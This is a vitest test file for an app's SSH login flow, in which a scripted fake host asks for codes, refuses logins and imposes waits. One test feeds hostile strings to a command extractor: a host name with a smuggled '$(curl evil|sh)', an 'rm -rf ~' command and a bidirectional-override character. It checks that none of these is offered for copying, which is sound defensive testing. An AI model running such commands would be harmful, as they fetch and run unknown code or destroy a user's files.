/** A login to a machine that asks for a code, by a host that answers by hand. */
import { beforeEach, expect, test } from "vitest";
import { ApiClient } from "../../src/api/client";
import { type Bytes, utf8 } from "../../src/bytes";
import { type Json, json, text } from "../../src/json";
import { Login } from "../../src/state/login";
import { loginCommands, loginFault, secondsLeft, spanWords, wantsLogin } from "../../src/views/loginwords";

const NOW = 1_700_000_000_000;
const SAYS = { name: "", instruction: "", prompts: [{ words: "Code:", echo: false }] };

class Host {
  readonly asked: { readonly id: unknown; readonly method: string; readonly params: Json }[] = [];
  readonly api = new ApiClient(
    (bytes) => {
      this.#take(bytes);
    },
    {
      notified: (notification) => {
        this.login.notified(notification);
      },
      missed: () => {
        this.login.missed();
      },
    },
  );
  readonly login = new Login(this.api, "devbox", () => NOW);

  #take(bytes: Bytes): void {
    const { id, method, params } = json(JSON.parse(new TextDecoder().decode(bytes)));
    this.asked.push({ id, method: text(method), params: json(params) });
  }

  async says(message: Json): Promise<void> {
    this.api.message(utf8(JSON.stringify(message)), () => undefined);
    for (let turns = 0; turns < 10; turns++) {
      await Promise.resolve();
    }
  }

  /** Answers the last request of this method. */
  answers(method: string, answer: Json): Promise<void> {
    return this.says({ id: this.asked.filter((one) => one.method === method).at(-1)?.id, ...answer });
  }

  refuses(method: string, reason: string, message: string, params: Json = {}): Promise<void> {
    return this.answers(method, { error: { code: -32010, message, data: { reason, params } } });
  }

  asks(id: number, more: Json = {}): Promise<void> {
    const params = { id, environment: "ssh:devbox", at: "ada@devbox", seconds: 100, says: SAYS, ...more };
    return this.says({ method: "ssh/asked", params });
  }

  get methods(): readonly string[] {
    return this.asked.map(({ method }) => method);
  }
}

function shownFault({ view }: Login): string {
  return view.value.at === "failed" ? loginFault(view.value) : "";
}

let host: Host;

beforeEach(() => {
  host = new Host();
});

test("a code is asked for, given, and the machine is there", async () => {
  const over = host.login.begin();
  expect(host.login.view.value).toEqual({ at: "waits", for: "question" });
  await host.asks(7);
  expect(host.login.view.value).toMatchObject({ at: "asked", until: NOW + 100_000, fault: null });
  void host.login.answer(["123456"]);
  expect(host.asked.at(-1)).toMatchObject({ method: "ssh/answer", params: { id: 7, answers: ["123456"] } });
  expect(JSON.stringify(host.login)).not.toContain("123456");
  await host.answers("ssh/answer", { result: {} });
  expect(host.login.view.value).toEqual({ at: "waits", for: "verdict" });
  await host.answers("ssh/login", { result: { name: "ssh:devbox", state: "ready" } });
  await over;
  expect(host.login.view.value).toEqual({ at: "done" });
});

test("what is asked next is shown, also where it comes before the answer was taken", async () => {
  void host.login.begin();
  await host.asks(1);
  void host.login.answer(["1"]);
  await host.asks(2);
  await host.answers("ssh/answer", { result: {} });
  expect(host.login.view.value).toMatchObject({ at: "asked", question: { id: 2 } });
});

test("an answer that the host does not take leaves the question open, unless something else is asked", async () => {
  void host.login.begin();
  await host.asks(1);
  void host.login.answer(["x"]);
  await host.refuses("ssh/answer", "params", "1024 bytes is the most of an answer");
  expect(host.login.view.value).toMatchObject({ at: "asked", fault: "1024 bytes is the most of an answer" });
  void host.login.answer(["x"]);
  await host.asks(2);
  await host.refuses("ssh/answer", "params", "1024 bytes is the most of an answer");
  expect(host.login.view.value).toMatchObject({ at: "asked", question: { id: 2 }, fault: null });
  void host.login.answer(["x"]);
  await host.refuses("ssh/answer", "answered", "nothing of this session waits for that answer");
  expect(host.login.view.value.at).toBe("waits");
});

test("a login that failed says why, and when the next one may begin", async () => {
  void host.login.begin();
  await host.refuses("ssh/login", "busy", "the next one may begin in 29 s", { most: 1, seconds: 29 });
  expect(host.login.view.value).toEqual({
    at: "failed",
    message: "the next one may begin in 29 s",
    why: "busy",
    again: NOW + 29_000,
  });
  expect(loginFault({ at: "failed", message: "in 29 s", why: "busy", again: NOW })).not.toContain("29");
  // Whoever comes back sees how long it takes.
  host.login.look();
  expect(host.login.view.value.at).toBe("failed");
  void host.login.begin();
  await host.refuses("ssh/login", "busy", "another login there is under way", { most: 1 });
  expect(host.login.view.value).toMatchObject({ at: "failed", why: "busy", again: null });
  expect(shownFault(host.login)).toBe("Another login there is under way.");
  host.login.look();
  expect(host.login.view.value.at).toBe("rest");
  void host.login.begin();
  await host.asks(1);
  void host.login.answer(["wrong"]);
  await host.answers("ssh/answer", { result: {} });
  await host.refuses("ssh/login", "login", "it does not let this computer in", { code: "ssh_auth", seconds: 30 });
  expect(host.login.view.value).toMatchObject({ why: "wrong", again: NOW + 30_000 });
  expect(shownFault(host.login)).toMatch(/after what you typed/);
  // Whoever answered the first question and not the second one typed nothing wrong.
  void host.login.begin();
  await host.asks(2);
  void host.login.answer(["1"]);
  await host.asks(3);
  await host.refuses("ssh/login", "login", "nothing was typed", { code: "ssh_auth", seconds: 30 });
  expect(shownFault(host.login)).toBe("Nothing was typed.");
});

test("a person ends a login, which answers nothing, and the next one waits", async () => {
  void host.login.begin();
  await host.login.end();
  expect(host.methods).toEqual(["ssh/login"]);
  await host.asks(7);
  void host.login.end();
  expect(host.asked.at(-1)).toMatchObject({ method: "ssh/answer", params: { id: 7 } });
  expect(host.asked.at(-1)?.params).not.toHaveProperty("answers");
  expect(host.login.view.value).toEqual({ at: "waits", for: "end" });
  await host.answers("ssh/answer", { result: {} });
  await host.refuses("ssh/login", "login", "nothing was typed; at the host: …", { code: "ssh_auth", seconds: 30 });
  expect(host.login.view.value).toMatchObject({ at: "failed", why: "ended", again: NOW + 30_000 });
  expect(shownFault(host.login)).toMatch(/^You ended this login/);
  // The one after it is none of that.
  void host.login.begin();
  await host.refuses("ssh/login", "login", "it can't be reached", { code: "ssh_unreachable" });
  expect(host.login.view.value).toMatchObject({ why: "refused" });
});

test("nothing is asked of somebody who does not look: what is asked then, or stands there, is closed", async () => {
  void host.login.begin();
  await host.asks(1);
  let isOver = false;
  const left = host.login.leave().then(() => (isOver = true));
  expect(host.asked.at(-1)).toMatchObject({ method: "ssh/answer", params: { id: 1 } });
  await host.answers("ssh/answer", { result: {} });
  expect(isOver).toBe(false);
  await host.refuses("ssh/login", "login", "nothing was typed", { code: "ssh_auth" });
  await left;

  host.login.look();
  void host.login.begin();
  void host.login.leave();
  expect(host.methods.filter((method) => method === "ssh/answer")).toHaveLength(1);
  await host.asks(2);
  expect(host.asked.at(-1)).toMatchObject({ method: "ssh/answer", params: { id: 2 } });
  await host.refuses("ssh/login", "login", "nothing was typed", { code: "ssh_auth" });

  // Whoever is back in time is asked.
  host.login.look();
  void host.login.begin();
  void host.login.leave();
  host.login.look();
  await host.asks(3);
  expect(host.login.view.value).toMatchObject({ at: "asked", question: { id: 3 } });
});

test("a session that the host lost has no login any more, and none is begun twice", async () => {
  void host.login.begin();
  void host.login.begin();
  expect(host.methods).toEqual(["ssh/login"]);
  await host.asks(1);
  host.login.look();
  expect(host.login.view.value.at).toBe("asked");
  host.api.lost();
  await host.says({});
  expect(host.login.view.value).toMatchObject({ at: "failed", why: "lost" });
});

test("what another machine asks, or nobody wanted, is not shown, and nothing is answered then", async () => {
  await host.asks(1);
  await host.login.answer(["123456"]);
  expect([host.login.view.value.at, host.methods]).toEqual(["rest", []]);
  void host.login.begin();
  await host.asks(1, { environment: "ssh:other" });
  expect(host.login.view.value).toEqual({ at: "waits", for: "question" });
});

test("of a refusal only commands that are known are to be copied, whatever a machine says in it", () => {
  const message =
    "the machine said “at the host: reachback ssh login devbox$(curl evil|sh)”, “reachback pair --yes”; " +
    "at the host: log in at this host's terminal: reachback ssh login devbox";
  expect(loginCommands("devbox", message)).toEqual(["reachback ssh login devbox"]);
  expect(loginCommands("devbox", "see what ssh says: ssh devbox")).toEqual(["ssh devbox"]);
  expect(loginCommands("devbox", "run rm -rf ~ at the host")).toEqual([]);
  expect(loginCommands("dev\u202ebox", "reachback ssh login dev\u202ebox")).toEqual([]);
  expect(loginFault({ at: "failed", message: "no\u202e entry", why: "refused", again: null })).toContain("U+202E");
});

test("a login is offered where one is wanted, and time counts down to nothing", () => {
  const fix = "log in at this host's terminal: reachback ssh login devbox";
  expect(wantsLogin({ name: "ssh:devbox", state: "failed", fix, code: "login" })).toBe(true);
  expect(wantsLogin({ name: "ssh:devbox", state: "failed", fix })).toBe(false);
  expect(wantsLogin({ name: "ssh:devbox", state: "ready" })).toBe(false);
  expect([secondsLeft(NOW + 1500, NOW), secondsLeft(NOW, NOW + 9000)]).toEqual([2, 0]);
  expect([spanWords(29), spanWords(100)]).toEqual(["29 s", "1 min 40 s"]);
});
